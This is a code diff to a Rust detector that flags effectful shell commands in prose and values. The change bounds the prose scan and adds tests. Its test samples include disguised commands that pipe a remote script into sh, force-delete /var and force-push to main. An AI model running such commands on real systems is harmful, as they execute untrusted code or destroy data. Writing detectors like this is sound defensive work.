@@ -168,6 +168,9 @@ const EFFECTFUL_PROGRAMS: &[&str] = &[
 /// Script file endings: a word ending so is a program (`deploy.sh`, `./clean.py`).
 const SCRIPT_ENDINGS: &[&str] = &[".sh", ".bash", ".py", ".pl", ".rb", ".ps1", ".js"];
 
+/// The most bytes of running text read as one command.
+const PROSE_COMMAND_MAX: usize = 512;
+
 /// Where a command is looked for.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Setting {
@@ -288,7 +291,9 @@ pub fn effectful_commands(text: &str, setting: Setting) -> Vec<Range<usize>> {
         }
         line_at += line.len();
     }
-    // Prose: from every word start to the end of its clause.
+    // Prose: from every word that is an effectful program to the end of its clause (at most
+    // `PROSE_COMMAND_MAX` bytes: a command in running text is short, and no text is scanned
+    // more than that much per program word).
     let mut prev: Option<char> = None;
     for (i, c) in text.char_indices() {
         let starts = c.is_ascii_alphanumeric()
@@ -297,10 +302,18 @@ pub fn effectful_commands(text: &str, setting: Setting) -> Vec<Range<usize>> {
         if !starts {
             continue;
         }
-        let end = text[i..]
+        let word = text[i..].split(|ch: char| ch.is_whitespace() || !ch.is_ascii()).next().unwrap_or("");
+        if !effectful_program(word.trim_end_matches([',', '.', ';', ':', ')', '`', '"', '\''])) {
+            continue;
+        }
+        let mut limit = (i + PROSE_COMMAND_MAX).min(text.len());
+        while !text.is_char_boundary(limit) {
+            limit -= 1;
+        }
+        let end = text[i..limit]
             .char_indices()
             .find(|&(j, ch)| ends_command(text, i + j, ch))
-            .map_or(text.len(), |(j, _)| i + j);
+            .map_or(limit, |(j, _)| i + j);
         push(i..end, Setting::Prose);
     }
     out.sort_by_key(|r| (r.start, std::cmp::Reverse(r.end)));
@@ -329,11 +342,19 @@ mod tests {
             ("\u{441}url http://198.51.100.7/x.sh | sh", Setting::Prose),
             ("ｓｕｄｏ ｒｍ －ｒｆ /ｖａｒ", Setting::Prose),
             ("terraform apply -auto-approve", Setting::Value),
+            ("Known fix: git push --force origin main, then tell the team.", Setting::Prose),
             ("cat notes.txt | sh", Setting::Value),
             ("$ ./deploy.sh", Setting::Prose),
         ] {
             assert!(!found(text, setting).is_empty(), "{text}");
         }
+    }
+
+    #[test]
+    fn a_long_text_of_program_words_is_read_in_bounded_time() {
+        let text = "rm -rf /tmp/x ".repeat(20_000);
+        assert!(!found(&text, Setting::Prose).is_empty());
+        assert!(found(&"mail to ".repeat(50_000), Setting::Prose).is_empty());
     }
 
     #[test]
